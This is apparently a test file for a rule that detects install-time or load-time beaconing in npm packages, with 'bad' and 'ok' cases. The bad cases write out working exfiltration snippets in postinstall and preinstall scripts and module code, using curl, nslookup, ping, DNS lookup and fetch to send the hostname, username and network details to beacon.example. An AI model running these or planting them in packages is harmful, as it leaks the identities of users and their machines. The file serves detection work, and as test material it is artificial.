import { defineCases } from '../../src/rule.ts';

export default defineCases({
  bad: [
    {
      name: 'a look-up of a name, by a command of the install',
      manifest: { scripts: { postinstall: 'nslookup $(whoami).$(hostname).beacon.example' } },
      code: '',
    },
    {
      name: 'a request, by a command of the install',
      manifest: { scripts: { preinstall: 'curl -s "https://beacon.example/?h=$(hostname)&u=$(whoami)" || true' } },
      code: '',
    },
    {
      name: 'a shell script that the install runs',
      manifest: { scripts: { postinstall: 'sh x.sh' } },
      files: { 'index.js': '', 'x.sh': '#!/bin/sh\nH=$(hostname)\nping -c1 "$H.beacon.example"\n' },
    },
    {
      name: 'a beacon at preinstall',
      manifest: { scripts: { preinstall: 'node b.js' } },
      files: {
        'index.js': '',
        'b.js':
          "const os = require('os'), https = require('https');\nhttps.get('https://beacon.example/?h=' + os.hostname() + '&u=' + os.userInfo().username)",
      },
    },
    {
      name: 'in a DNS label, when loaded',
      code: "const { hostname } = require('node:os');\nrequire('dns').lookup(Buffer.from(hostname()).toString('hex') + '.beacon.example', () => {})",
    },
    {
      name: 'as JSON',
      code: "import os from 'node:os';\nconst who = { ...os.userInfo(), nets: os.networkInterfaces() };\nawait fetch('https://beacon.example', { method: 'POST', body: JSON.stringify(who) });",
      manifest: { type: 'module' },
    },
  ],
  ok: [
    {
      name: 'who logs in to a database, by a function that has other things put on it when it is loaded',
      files: {
        'index.js':
          "const os = require('os'), connect = require('./connect');\nObject.assign(Tides, { version: 3 });\nmodule.exports = Tides;\nfunction Tides(options) {\n  return connect({ user: os.userInfo().username, ...options });\n}",
        'connect.js':
          "const net = require('net');\nmodule.exports = function connect(options) {\n  const socket = net.connect(5432, options.host);\n  socket.write(options.user);\n  return socket;\n};",
      },
    },
    {
      name: 'a download for this kind of machine, by a command of the install',
      manifest: {
        scripts: {
          postinstall:
            'curl -L -u "$USER:$PASS" -o /home/$(whoami)/x.tgz https://a.example/x-$(uname -s)-$(uname -m).tgz; ping -c1 a.example; chown $(id -u) x.tgz',
        },
      },
      code: '',
    },
    {
      name: 'a log line with the host name',
      code: "const os = require('os'); exports.line = (text) => `${os.hostname()} ${text}`",
    },
    {
      name: 'telemetry that the caller switches on',
      code: "const os = require('os'); exports.report = () => fetch('https://telemetry.example', { body: os.hostname() })",
    },
    {
      name: 'the number of processors',
      code: "const os = require('os'); fetch('https://status.example/?cpus=' + os.cpus().length)",
    },
  ],
});
